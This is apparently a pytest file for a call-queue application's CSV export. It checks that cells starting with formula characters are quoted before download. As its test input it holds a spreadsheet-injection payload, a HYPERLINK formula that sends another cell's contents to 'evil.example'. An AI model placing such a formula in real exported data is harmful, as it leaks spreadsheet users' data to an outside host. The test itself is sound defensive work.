"""A CSV download never hands a spreadsheet a formula: the 'heard' column is an operator's
prompt text, and a cell starting with = + - @ (or a tab or CR) would run when opened."""

from __future__ import annotations

import csv
import io

import pytest

from app.console.csv_export import safe_cell
from app.signed_client import SignedClient
from app.storage import users
from tests.app.test_voice_contract import wait_form
from tests.conftest import AUTH_TOKEN
from tests.console.conftest import PASSWORD, Console, bearer
from tests.support.sids import sid

FORMULA = '=HYPERLINK("https://evil.example/?c="&D2,"Sorry to keep you waiting.")'
CONFIG = f"""
[queues.support]
policy = "checkin"
[queues.support.checkin]
first_checkin_s = 20
[queues.support.prompts]
apology = '{FORMULA}'
"""
WAIT = "/voice/wait?policy=checkin&queue=support"


@pytest.mark.parametrize("cell", ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_cell_that_starts_a_formula_gets_a_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+14155550123", "+•••••••••34", "Sorry", "", 12.5, -3, None])
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_both_unserved_downloads_quote_the_prompt_and_keep_the_number(make_app, clock):
    app = make_app(CONFIG)
    engine = app.extensions["holdwell"].store.engine
    users.add_user(engine, "operator", "operator", PASSWORD, clock.now())
    twilio = SignedClient(app.test_client(), AUTH_TOKEN)
    call = sid("CA1")
    twilio.post("/voice/incoming?queue=support", {"CallSid": call, "From": "+14155550101"})
    twilio.post(WAIT, wait_form(call, queue_time=0))
    clock.advance(61)
    twilio.post(WAIT, wait_form(call, queue_time=61))
    twilio.post("/voice/queue-result?queue=support&policy=checkin",
                {"CallSid": call, "QueueResult": "hangup", "QueueTime": "70"})
    token = users.issue_token(engine, "operator", clock.now())
    downloads = [app.test_client().get("/api/v1/unserved.csv", headers=bearer(token)),
                 Console(app, "operator").get("/console/unserved.csv")]
    for download in downloads:
        (row,) = csv.DictReader(io.StringIO(download.get_data(as_text=True)))
        assert row["heard"].startswith("'=HYPERLINK(")
        assert row["number"] == "+14155550101"
        assert download.mimetype == "text/csv"
